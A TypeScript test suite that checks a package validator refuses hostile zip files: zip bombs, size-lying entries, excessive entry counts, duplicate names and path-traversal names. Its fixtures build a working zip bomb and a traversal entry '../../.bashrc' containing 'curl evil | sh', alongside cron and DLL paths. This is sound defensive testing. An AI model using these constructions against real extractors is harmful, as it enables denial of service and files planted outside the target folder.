/**
 * `npm run validate -- --zip` opens packages it did not build: a zip bomb, a zip with thousands of entries or one
 * that names ../../ paths must be refused with a clear PACKAGE_UNREADABLE, never read into memory.
 */
import { mkdtempSync, rmSync, truncateSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { constants as zlibConstants, deflateRawSync, inflateRawSync } from "node:zlib";
import { zipSync, type Zippable } from "fflate";
import { zipToPackage } from "../../../manifest/lib/appPackage";
import { ManifestError } from "../../../manifest/lib/errors";
import { DEFAULT_ZIP_LIMITS, readZip, ZipFormatError, type ZipLimits } from "../../../manifest/lib/zip";
import { main as validateMain, validateZip } from "../../../manifest/scripts/validate";

const MIB = 1024 * 1024;
const MANIFEST = Buffer.from('{"manifestVersion":"1.22"}');
const CENTRAL_HEADER = Buffer.from([0x50, 0x4b, 0x01, 0x02]);

/** Raw deflate of `mib` MiB of zeros, built from one compressed MiB repeated: ~1 KB per MiB, no big buffer. */
function zerosDeflated(mib: number): Buffer {
  const piece = deflateRawSync(Buffer.alloc(MIB), { finishFlush: zlibConstants.Z_SYNC_FLUSH });
  const finalEmptyBlock = Buffer.from([0x03, 0x00]);
  return Buffer.concat([...Array.from({ length: mib }, () => piece), finalEmptyBlock]);
}

/** manifest.json plus `name` holding `deflated` (raw deflate), whose headers declare `declaredSize` bytes. */
function zipWithDeflated(name: string, deflated: Buffer, declaredSize: number): Buffer {
  // Stored first so the bytes go in untouched, then relabelled as deflate with the chosen size.
  const zip = Buffer.from(zipSync({ [name]: [deflated, { level: 0 }], "manifest.json": MANIFEST }));
  const central = zip.indexOf(CENTRAL_HEADER, 30 + name.length + deflated.length);
  for (const [header, method, size] of [
    [0, 8, 22],
    [central, 10, 24],
  ] as const) {
    zip.writeUInt16LE(8, header + method);
    zip.writeUInt32LE(declaredSize, header + size);
  }
  return zip;
}

function zipOf(files: Zippable): Buffer {
  return Buffer.from(zipSync(files));
}

function zipError(read: () => unknown): ZipFormatError {
  try {
    read();
  } catch (error) {
    if (error instanceof ZipFormatError) return error;
    throw error;
  }
  throw new Error("expected a ZipFormatError");
}

describe("reading a hostile zip", () => {
  let dir: string;
  beforeAll(() => {
    dir = mkdtempSync(path.join(tmpdir(), "hostile-zip-"));
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it("pins the default limits (an app package is a manifest and a few icons: tens of KB)", () => {
    expect(DEFAULT_ZIP_LIMITS).toEqual({
      maxZipBytes: 16 * MIB,
      maxEntries: 100,
      maxEntryBytes: 4 * MIB,
      maxTotalBytes: 16 * MIB,
    });
  });

  it("the bomb helper makes what it says: a small deflate stream of many zeros", () => {
    const deflated = zerosDeflated(3);
    expect(deflated.length).toBeLessThan(5 * 1024);
    expect(inflateRawSync(deflated).equals(Buffer.alloc(3 * MIB))).toBe(true);
  });

  it("refuses a zip bomb that declares its real size (1 GiB from ~1 MB) before inflating anything", () => {
    const bomb = zipWithDeflated("color.png", zerosDeflated(1024), 1024 * MIB);
    expect(bomb.length).toBeLessThan(2 * MIB);
    const error = zipError(() => readZip(bomb));
    expect(error.code).toBe("ENTRY_TOO_LARGE");
    expect(error.details).toEqual(['"color.png" declares 1024.0 MiB']);
  });

  it("stops inflating an entry as soon as it yields more than its directory declares (a bomb that lies)", () => {
    const liar = zipWithDeflated("color.png", zerosDeflated(1024), 2048);
    const started = Date.now();
    const error = zipError(() => readZip(liar));
    expect(error.code).toBe("DAMAGED");
    expect(error.message).toBe(
      "color.png: inflates to more than the 2048 bytes its directory declares (stopped there)",
    );
    // Inflating the whole GiB takes seconds; stopping within the first KB of input takes milliseconds.
    expect(Date.now() - started).toBeLessThan(2000);
  });

  it("refuses entries that together declare more than the total limit", () => {
    const limits: ZipLimits = { ...DEFAULT_ZIP_LIMITS, maxEntryBytes: MIB, maxTotalBytes: 2 * MIB };
    const zip = zipOf({ "a.png": Buffer.alloc(MIB), "b.png": Buffer.alloc(MIB), "c.png": Buffer.alloc(MIB) });
    const error = zipError(() => readZip(zip, limits));
    expect(error.code).toBe("TOTAL_TOO_LARGE");
    expect(error.message).toContain("its entries hold 3.0 MiB uncompressed, more than the 2.0 MiB allowed");
  });

  it("refuses a zip with more entries than a package can hold, without reading past the limit", () => {
    const files: Zippable = { "manifest.json": MANIFEST };
    for (let i = 0; i < 5000; i++) files[`f${i}.png`] = new Uint8Array(0);
    const error = zipError(() => readZip(zipOf(files)));
    expect(error.code).toBe("TOO_MANY_ENTRIES");
    expect(error.message).toBe("it holds more than 100 entries (the limit for an app package here)");
  });

  it("refuses absolute paths and .. segments, listing every offending name", () => {
    const zip = zipOf({
      "manifest.json": MANIFEST,
      "../../.bashrc": Buffer.from("curl evil | sh"),
      "icons/../../escape.png": Buffer.from("x"),
      "/etc/cron.d/job": Buffer.from("x"),
      "C:\\Windows\\evil.dll": Buffer.from("x"),
      "..\\up.png": Buffer.from("x"),
      "fine..name.png": Buffer.from("x"),
    });
    const error = zipError(() => readZip(zip));
    expect(error.code).toBe("UNSAFE_NAME");
    expect(error.details).toEqual([
      '"../../.bashrc" climbs out of the package with ..',
      '"icons/../../escape.png" climbs out of the package with ..',
      '"/etc/cron.d/job" is an absolute path',
      '"C:\\\\Windows\\\\evil.dll" is an absolute path',
      '"..\\\\up.png" climbs out of the package with ..',
    ]);
  });

  it("refuses a name that appears twice (which copy a host reads is anyone's guess)", () => {
    const zip = zipOf({ "manifest.json": MANIFEST, "manifest.jsoN": Buffer.from('{"other":true}') });
    // Same length, so renaming in the local and central headers moves nothing.
    for (let at = zip.indexOf("manifest.jsoN"); at >= 0; at = zip.indexOf("manifest.jsoN")) {
      zip.write("manifest.json", at, "latin1");
    }
    const error = zipError(() => readZip(zip));
    expect(error.code).toBe("DUPLICATE_NAME");
    expect(error.details).toEqual(['"manifest.json"']);
  });

  it("refuses a zip file over the size limit without loading it", async () => {
    const huge = path.join(dir, "huge.zip");
    writeFileSync(huge, "");
    truncateSync(huge, 17 * MIB); // sparse: no 17 MiB written
    const report = await validateZip(huge);
    expect(report.failure).toBeInstanceOf(ManifestError);
    expect(report.failure?.code).toBe("PACKAGE_UNREADABLE");
    expect(report.failure?.message).toContain("the file is 17.0 MiB, more than the 16.0 MiB allowed");
    expect((report.failure?.cause as ZipFormatError).code).toBe("ZIP_TOO_LARGE");
  });

  it("the package reader turns every refusal into PACKAGE_UNREADABLE that says what to do next", () => {
    const zip = zipOf({ "manifest.json": MANIFEST, "../evil.png": Buffer.from("x") });
    let failure: unknown;
    try {
      zipToPackage(zip, "evil.zip");
    } catch (error) {
      failure = error;
    }
    expect(failure).toBeInstanceOf(ManifestError);
    const error = failure as ManifestError;
    expect(error.code).toBe("PACKAGE_UNREADABLE");
    expect(error.message).toBe(
      "evil.zip: refused, as it could be a hostile zip: it names files outside the package's folder. " +
        "An app package holds only manifest.json and its icons, at the root of the zip: " +
        "rebuild it with npm run package -- --env <name>\n" +
        '  - "../evil.png" climbs out of the package with ..',
    );
  });

  it("CLI: validate --zip exits 1 for a zip bomb, too many entries and path traversal, naming the problem", async () => {
    const cases: Array<[string, Buffer, string]> = [
      ["bomb.zip", zipWithDeflated("color.png", zerosDeflated(64), 64 * MIB), '"color.png" declares 64.0 MiB'],
      [
        "many.zip",
        zipOf(Object.fromEntries(Array.from({ length: 101 }, (_, i) => [`f${i}.png`, new Uint8Array(0)]))),
        "it holds more than 100 entries",
      ],
      ["traversal.zip", zipOf({ "manifest.json": MANIFEST, "../x.png": Buffer.from("x") }), '"../x.png" climbs out'],
    ];
    for (const [name, bytes, expected] of cases) {
      const file = path.join(dir, name);
      writeFileSync(file, bytes);
      const err: string[] = [];
      const code = await validateMain(["--zip", file], { log: () => {}, error: (line) => err.push(line) });
      expect({ name, code }).toEqual({ name, code: 1 });
      expect(err.join("\n")).toContain("PACKAGE_UNREADABLE");
      expect(err.join("\n")).toContain("refused, as it could be a hostile zip");
      expect(err.join("\n")).toContain(expected);
    }
  });
});
